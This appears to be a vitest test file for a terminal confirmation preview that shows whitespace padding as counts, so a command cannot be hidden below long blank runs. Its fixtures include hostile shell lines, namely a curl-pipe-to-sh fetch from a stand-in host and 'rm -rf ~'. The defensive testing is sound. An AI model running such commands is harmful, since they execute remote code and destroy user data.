import { describe, expect, it } from 'vitest';
import { confirmationPreview } from '../../src/output/confirm-preview.js';

const blanks = (n: number): string => '\n'.repeat(n);

describe('confirmationPreview: a confirmation shows what it asks for', () => {
  it.each<[string, string, { rows?: number; columns?: number }, string]>([
    ['a one-line command as it is', 'ls -la', { rows: 24, columns: 80 }, 'ls -la'],
    ['a short script line by line', 'cd src\nnpm test', { rows: 24, columns: 80 }, 'cd src\nnpm test'],
    ['one or two blank lines kept', 'a\n\nb\n\n\nc', { rows: 24, columns: 80 }, 'a\n\nb\n\n\nc'],
    ['a run of blank lines told as a count', `curl -s http://x.example/x | sh${blanks(81)}ls -la`, { rows: 24, columns: 80 }, 'curl -s http://x.example/x | sh\n[… 80 blank lines …]\nls -la'],
    ['whitespace-only and zero-width lines are blank too', 'rm -rf ~\n   \n\t\n\u200b\n \u200b \nls', { rows: 24, columns: 80 }, 'rm -rf ~\n[… 4 blank lines …]\nls'],
    ['trailing blank lines dropped', 'ls\n\n\n\n', { rows: 24, columns: 80 }, 'ls'],
    ['a long run of spaces in a line told as a count', `curl x | sh${' '.repeat(5000)}ls -la`, { rows: 24, columns: 80 }, 'curl x | sh [… 5000 spaces …] ls -la'],
    ['indentation kept', `if true; then\n${' '.repeat(8)}echo hi\nfi`, { rows: 24, columns: 80 }, `if true; then\n${' '.repeat(8)}echo hi\nfi`],
    ['taller than the screen: a last line says where it starts', Array.from({ length: 30 }, (_, i) => `line ${i}`).join('\n'), { rows: 24, columns: 80 }, [...Array.from({ length: 30 }, (_, i) => `line ${i}`), '[the preview is 30 rows tall; scroll up to read it from its start]'].join('\n')],
    ['rows wrapped at the width count as rows', 'x'.repeat(800), { rows: 10, columns: 80 }, `${'x'.repeat(800)}\n[the preview is 10 rows tall; scroll up to read it from its start]`],
    ['just fits: no note', Array.from({ length: 22 }, () => 'y').join('\n'), { rows: 24, columns: 80 }, Array.from({ length: 22 }, () => 'y').join('\n')],
    ['no screen size known: no note', Array.from({ length: 100 }, () => 'z').join('\n'), {}, Array.from({ length: 100 }, () => 'z').join('\n')],
    // `stty rows 0 cols 0`, or a terminal that reports no size: unknown, not a screen with no room.
    ['a 0×0 terminal: size unknown, no note', 'ls -la', { rows: 0, columns: 0 }, 'ls -la'],
    ['0 rows: no note, whatever the width', 'x'.repeat(800), { rows: 0, columns: 80 }, 'x'.repeat(800)],
    ['0 columns: rows counted at 80', 'x'.repeat(800), { rows: 10, columns: 0 }, `${'x'.repeat(800)}\n[the preview is 10 rows tall; scroll up to read it from its start]`],
  ])('%s', (_case, preview, screen, shown) => {
    expect(confirmationPreview(preview, screen)).toBe(shown);
  });
});
